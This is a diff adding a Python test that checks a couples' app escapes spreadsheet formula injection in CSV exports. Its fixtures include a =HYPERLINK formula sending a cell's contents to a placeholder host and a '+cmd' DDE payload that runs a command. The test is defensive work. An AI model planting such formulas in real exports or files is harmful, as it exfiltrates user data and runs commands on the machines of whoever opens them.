@@ -208,3 +208,39 @@ def test_a_partners_own_sealed_notes_come_out_readable_and_no_one_elses(
     [kept] = _rows(tmp_path / "no-key" / "notes.csv")
     assert vault.is_encrypted(kept["body"]) and int(kept["partner_id"]) == ivy
     assert "JON-OWN" not in _all_text(tmp_path / "ivy") + _all_text(tmp_path / "no-key")
+
+
+FORMULAS = {  # what a hostile partner might type, as a spreadsheet would run it
+    "couple": '=HYPERLINK("https://x.example/?"&A2,"open")',
+    "partner": "@SUM(1+1)",
+    "note": "+cmd|' /C calc'!A0",
+}
+
+
+def test_a_text_a_spreadsheet_would_run_is_exported_as_text_in_csv_only(
+    store: Database, catalog: Catalog, tmp_path: Path
+) -> None:
+    """Found: a name or a note beginning with "=", "+", "-" or "@" was written to CSV as it was typed, and a
+    spreadsheet opening the export runs it as a formula (=HYPERLINK can send the other cells away). In CSV it
+    begins with an apostrophe, so it is shown as text; Parquet and JSON, read by programs, carry it as typed.
+    A text with "=" anywhere else, and every number, is left alone."""
+    import duckdb
+
+    couple = make_couple(store, FORMULAS["couple"], (FORMULAS["partner"], "a=b"))
+    first = couple.partners[0].partner_id
+    check_in(store, catalog, first, THIS_MONTH, whole_plan(catalog, 2), note=(FORMULAS["note"], False))
+    export(store, tmp_path / "csv", "csv", couple.couple_id)
+    export(store, tmp_path / "parquet", "parquet", couple.couple_id)
+
+    def cells(fmt: str, table: str, column: str) -> list[str]:
+        path = tmp_path / fmt / f"{table}.{fmt}"
+        if fmt == "csv":
+            return [r[column] for r in _rows(path)]
+        return [str(v) for (v,) in duckdb.execute(f"SELECT {column} FROM read_parquet(?)", [str(path)]).fetchall()]
+
+    for fmt, before in (("csv", "'"), ("parquet", "")):
+        assert cells(fmt, "couples", "name") == [before + FORMULAS["couple"]], fmt
+        assert cells(fmt, "partners", "name") == [before + FORMULAS["partner"], "a=b"], fmt
+        assert cells(fmt, "notes", "body") == [before + FORMULAS["note"]], fmt
+    values = cells("csv", "responses", "value")
+    assert values and all(v == "" or float(v) >= 0 for v in values)  # numbers are numbers still
